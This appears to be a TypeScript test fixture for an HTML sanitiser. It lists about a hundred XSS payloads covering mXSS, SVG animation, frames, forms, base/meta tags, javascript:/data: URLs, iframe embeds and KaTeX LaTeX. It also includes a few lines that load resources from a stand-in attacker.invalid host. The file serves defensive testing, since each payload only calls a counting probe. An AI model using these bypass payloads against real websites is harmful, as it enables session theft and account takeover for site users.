/**
 * Our own XSS payloads, for the classes the Big List of Naughty Strings lacks (namespace confusion,
 * frames, forms, base/meta, newer event handlers, SVG animation, data: and vbscript: urls …).
 * Contract: a payload that runs calls `__xss(n)` (or `parent.__xss(n)` from a frame), n its number
 * here; the suite counts those calls (tests/security/xssProbe.ts). Hosts are `.invalid`, so nothing
 * leaves the machine.
 */
export const ownXssPayloads: readonly string[] = [
  // namespace confusion and mutation (mXSS)
  '<svg><style><img src=x onerror=__xss(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(2)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(3)>',
  '<svg></p><style><a id="</style><img src=1 onerror=__xss(4)>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__xss(5) src=1>">',
  '<svg><![CDATA[><img src=x onerror=__xss(6)>]]></svg>',
  '<svg><style>&lt;img src=x onerror=__xss(7)&gt;</style></svg>',
  '<math><style><img src=x onerror=__xss(8)></style></math>',
  '<svg><foreignObject><p><img src=x onerror=__xss(9)></p></foreignObject></svg>',
  '<!--<img src="--><img src=x onerror=__xss(10)//">',
  '<table><tr><td><svg><desc><table><td></desc><img src=x onerror=__xss(11)>',
  // template and noscript
  '<template><img src=x onerror=__xss(12)></template>',
  '<template><script>__xss(13)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(14)>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=__xss(15)>',
  // images and media
  '<img src=x onerror=__xss(16)>',
  '<img/src=x/onerror=__xss(17)>',
  '<IMG SRC=x OnErRoR="window.__xss(18)">',
  '<img src="x:__xss(19)" onerror="eval(src.slice(2))">',
  '<video><source onerror=__xss(20)></video>',
  '<audio src=x onerror=__xss(21)></audio>',
  '<video poster="javascript:__xss(22)" src=x onerror=__xss(22)></video>',
  '<picture><source srcset="javascript:__xss(23)"><img src=x onerror=__xss(23)></picture>',
  // frames, objects, embeds
  '<iframe srcdoc="<script>parent.__xss(24)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.__xss(25)&gt;"></iframe>',
  '<iframe src="javascript:parent.__xss(26)"></iframe>',
  '<iframe src="data:text/html,<script>parent.__xss(27)</script>"></iframe>',
  '<object data="javascript:__xss(28)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMjkpPC9zY3JpcHQ+"></object>',
  '<embed src="javascript:__xss(30)">',
  '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9feHNzKDMxKSIvPg==">',
  '<frameset onload=__xss(32)><frame src="javascript:parent.__xss(32)"></frameset>',
  '<portal src="javascript:__xss(33)"></portal>',
  // links and urls
  '<a href="javascript:__xss(34)">link 34</a>',
  '<a href="JaVaScRiPt:__xss(35)">link 35</a>',
  '<a href="&#106;avascript:__xss(36)">link 36</a>',
  '<a href="java&#x09;script:__xss(37)">link 37</a>',
  '<a href=" &#14; javascript:__xss(38)">link 38</a>',
  '<a href="javascript&colon;__xss(39)">link 39</a>',
  '<a href="data:text/html,<script>__xss(40)</script>">link 40</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcyg0MSk8L3NjcmlwdD4=">link 41</a>',
  '<a href="vbscript:msgbox(42)">link 42</a>',
  '<img src="vbscript:__xss(43)">',
  '<area shape=rect coords=0,0,10,10 href="javascript:__xss(44)">',
  '<map name=m45><area shape=default href="javascript:__xss(45)"></map><img usemap=#m45 src=x>',
  '<a href="https://example.invalid/" onclick="__xss(46)">link 46</a>',
  '<a href="#" onmouseover="__xss(47)">link 47</a>',
  '<a href="https://example.invalid/" target="_self" rel="opener" onfocus="__xss(48)" autofocus>link 48</a>',
  // forms
  '<form action="javascript:__xss(49)"><button>send 49</button></form>',
  '<form><button formaction="javascript:__xss(50)">send 50</button></form>',
  '<form id=f51></form><button form=f51 formaction="javascript:__xss(51)">send 51</button>',
  '<input autofocus onfocus=__xss(52)>',
  '<select autofocus onfocus=__xss(53)><option>x</option></select>',
  '<textarea autofocus onfocus=__xss(54)></textarea>',
  '<input type=image src=x onerror=__xss(55)>',
  '<isindex type=image src=1 onerror=__xss(56)>',
  // base, meta, style, link
  '<base href="javascript:__xss(57)//"><a href="/x">link 57</a>',
  '<base href="https://attacker.invalid/">',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(59)">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>__xss(60)</script>">',
  '<style>@import "https://attacker.invalid/x.css";</style>',
  '<style>*{background:url("javascript:__xss(62)")}</style>',
  '<div style="background-image:url(javascript:__xss(63))">style 63</div>',
  '<div style="width:expression(__xss(64))">style 64</div>',
  '<link rel=stylesheet href="https://attacker.invalid/x.css">',
  '<link rel=import href="data:text/html,<script>__xss(66)</script>">',
  // event handlers that need no click
  '<details open ontoggle=__xss(67)><summary>details 67</summary></details>',
  '<svg onload=__xss(68)>',
  '<body onload=__xss(69)>',
  '<marquee onstart=__xss(70)>marquee 70</marquee>',
  '<div onmouseover=__xss(71)>hover 71</div>',
  '<p style="animation:spin 1s" onanimationstart=__xss(72)>animation 72</p>',
  '<div tabindex=0 onfocusin=__xss(73) autofocus>focus 73</div>',
  '<x onclick=__xss(74)>click 74</x>',
  '<div draggable=true ondragstart=__xss(75)>drag 75</div>',
  '<button popovertarget=p76>pop 76</button><div popover id=p76 onbeforetoggle=__xss(76)>popover</div>',
  '<img src=x onpointerenter=__xss(77) onmouseenter=__xss(77)>',
  // SVG: animation, links, scripts, use
  '<svg><animate onbegin=__xss(78) attributeName=x dur=1s></svg>',
  '<svg><a><animate attributeName=href values=javascript:__xss(79) /><text x=20 y=20>svg link 79</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:__xss(80) /><text x=20 y=20>svg link 80</text></a></svg>',
  '<svg><a xlink:href="javascript:__xss(81)"><text x=20 y=20>svg link 81</text></a></svg>',
  '<svg><a href="javascript:__xss(82)"><circle r=40></circle></a></svg>',
  '<svg><script>__xss(83)</script></svg>',
  '<svg><script xlink:href="data:,__xss(84)"></script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'x\' onerror=\'__xss(85)\'/></svg>#x"/></svg>',
  '<svg><image href=x onerror=__xss(86)></image></svg>',
  '<svg><set attributeName=onmouseover to=__xss(87) /><rect width=50 height=50 /></svg>',
  '<math href="javascript:__xss(88)">math link 88</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:__xss(89)">math 89</maction></math>',
  // scripts, split and hidden
  '<script>__xss(90)</script>',
  '<scr<script>ipt>__xss(91)</scr</script>ipt>',
  '<script src="data:text/javascript,__xss(92)"></script>',
  '<script type=module>__xss(93)</script>',
  '"><script>__xss(94)</script>',
  "'><img src=x onerror=__xss(95)>",
  '</textarea><img src=x onerror=__xss(96)>',
  '</title><img src=x onerror=__xss(97)>',
  '</script><script>__xss(98)</script>',
  '<![CDATA[><img src=x onerror=__xss(99)>]]>',
  // DOM clobbering of names the app or the sanitiser read
  '<img name=getElementById src=x><form id=attributes></form><a id=defaultView href="javascript:__xss(100)">link 100</a>',
];

/**
 * Urls for url fields that are plain strings, not html (link elements, external resources, rich-text
 * links, embed code). The same contract: a url that runs calls `__xss(n)`.
 */
export const ownXssUrls: readonly string[] = [
  'javascript:__xss(201)',
  ' JaVaScRiPt:__xss(202)',
  'java\tscript:__xss(203)',
  'data:text/html,<script>parent.__xss(204)</script>',
  'vbscript:msgbox(205)',
];

/** Embed code (HtmlElement, accepted only as one iframe): what may survive is one iframe with an http(s) src. */
export const ownEmbedPayloads: readonly string[] = [
  '<iframe src="https://example.invalid/embed" srcdoc="<script>parent.__xss(301)</script>" onload="__xss(301)"></iframe>',
  '<iframe src="javascript:parent.__xss(302)"></iframe>',
  '<iframe src="data:text/html,<script>parent.__xss(303)</script>"></iframe>',
  '<iframe src="https://example.invalid/embed" allow="camera; microphone; geolocation" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe><script>__xss(304)</script><iframe src="x"></iframe>',
];

/** LaTeX for math formulas: KaTeX must render these links and html commands inert. */
export const ownLatexPayloads: readonly string[] = [
  '\\href{javascript:__xss(401)}{x}',
  '\\url{javascript:__xss(402)}',
  '\\htmlData{onclick=__xss(403)}{x} \\htmlId{x" onmouseover="__xss(403)}{y}',
  '\\includegraphics{javascript:__xss(404)} \\text{<img src=x onerror=__xss(404)>}',
];
